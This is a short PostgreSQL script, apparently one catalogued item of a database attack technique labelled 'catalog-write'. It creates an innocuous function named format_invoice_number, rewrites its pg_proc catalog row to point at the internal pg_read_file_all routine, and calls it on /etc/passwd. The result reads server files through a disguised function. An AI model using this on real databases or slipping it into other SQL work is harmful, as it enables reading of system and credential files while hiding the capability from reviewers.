-- class: catalog-write
-- Repoints a harmless SQL function at the internal pg_read_file implementation by rewriting its pg_proc row.
CREATE FUNCTION format_invoice_number(n text) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT 'INV-' || n $$;

UPDATE pg_proc
SET prolang = (SELECT oid FROM pg_language WHERE lanname = 'internal'),
    prosrc = 'pg_read_file_all',
    provolatile = 'v'
WHERE oid = 'format_invoice_number(text)'::regprocedure;

SELECT format_invoice_number('/etc/passwd');
